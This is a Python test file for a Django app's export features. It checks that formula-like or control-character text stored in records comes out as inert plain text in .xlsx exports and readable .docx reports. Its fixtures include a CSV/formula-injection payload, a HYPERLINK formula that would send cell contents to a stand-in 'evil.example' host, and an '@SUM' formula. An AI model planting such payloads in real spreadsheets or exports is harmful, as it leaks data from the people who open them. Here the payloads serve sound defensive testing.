"""Issue 21, items 1 and 2 at every writer: text stored before input was checked (formula-like, with control
characters) exports as plain text in every .xlsx list and still makes a readable .docx report, over the API."""

import io
from decimal import Decimal

import pytest
from docx import Document
from openpyxl import load_workbook

from opsmon.accounts.models import Department
from opsmon.bids import services as bids
from opsmon.bids.models import Bid, BidSummary
from opsmon.bids.tests.factories import opened_bid, routed_bid
from opsmon.contracts.models import Contract
from opsmon.contracts.tests.factories import draft
from opsmon.core import xlsx
from opsmon.insights.export import Sheet
from opsmon.opportunities.models import Opportunity
from opsmon.opportunities.tests.factories import opportunity

from .test_hardening import Api

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
DIRTY = "报告\x07正文\x1b[0m\x0b结束"  # what PostgreSQL can store but no .xlsx or .docx may hold
CLEAN = "报告正文[0m结束"


def cells(response) -> list:
    assert response.status_code == 200, response.content[:500]
    workbook = load_workbook(io.BytesIO(response.content))
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


def assert_text(all_cells, value):
    found = [c for c in all_cells if c.value == value]
    assert found, f"{value!r} not in the workbook"
    assert all(c.data_type == "s" for c in found)


def test_opportunity_export(org):
    rep = org["rep1"]
    o = opportunity(rep)
    Opportunity.objects.filter(pk=o.pk).update(title=FORMULA, description=DIRTY)
    exported = cells(Api(rep).get("/api/v1/opportunities/export.xlsx"))
    assert_text(exported, FORMULA)
    assert_text(exported, CLEAN)


def test_contract_export_and_review_sheet(org):
    rep = org["rep1"]
    contract = draft(org)
    Contract.objects.filter(pk=contract.pk).update(title=FORMULA + DIRTY)
    api = Api(rep)
    exported = cells(api.get("/api/v1/contracts/export.xlsx"))
    assert_text(exported, FORMULA + CLEAN)
    sheet = api.get(f"/api/v1/contracts/{contract.pk}/review-sheet.docx")
    assert sheet.status_code == 200
    text = "\n".join(c.text for t in Document(io.BytesIO(sheet.content)).tables for r in t.rows for c in r.cells)
    assert FORMULA + CLEAN in text


def test_bond_register(org):
    bid = routed_bid(org)
    bids.bond_create(actor=org["assistant1"], bid=bid, kind="bid", amount="1000", method="bank_transfer")
    Department.objects.filter(pk=bid.department_id).update(name="@SUM(1+1)" + DIRTY)
    exported = cells(Api(org["assistant1"]).get("/api/v1/bonds/export.xlsx"))
    assert_text(exported, "@SUM(1+1)" + CLEAN)


def test_bid_summary_report(org):
    bid = opened_bid(org)
    BidSummary.objects.create(bid=bid, person_days=3, cost=1000, outcome_reason=DIRTY, lessons=FORMULA,
                              bond_note=DIRTY, author=org["rep1"])
    Bid.objects.filter(pk=bid.pk).update(title=DIRTY)
    report = Api(org["rep1"]).get(f"/api/v1/bids/{bid.pk}/summary.docx")
    assert report.status_code == 200, report.content[:300]
    paragraphs = [p.text for p in Document(io.BytesIO(report.content)).paragraphs]
    assert CLEAN in paragraphs and FORMULA in paragraphs


def test_dashboard_export():
    """The dashboard workbook writes its rows through insights.export.Sheet, which uses core.xlsx."""
    wb = xlsx.workbook()
    Sheet(wb.active).row(FORMULA + DIRTY, Decimal("1.50"), bold=True)
    row = list(load_workbook(io.BytesIO(xlsx.save(wb))).active.iter_rows())[0]
    assert (row[0].value, row[0].data_type) == (FORMULA + CLEAN, "s")
    assert row[1].value == 1.5 and row[1].number_format == "#,##0.00"
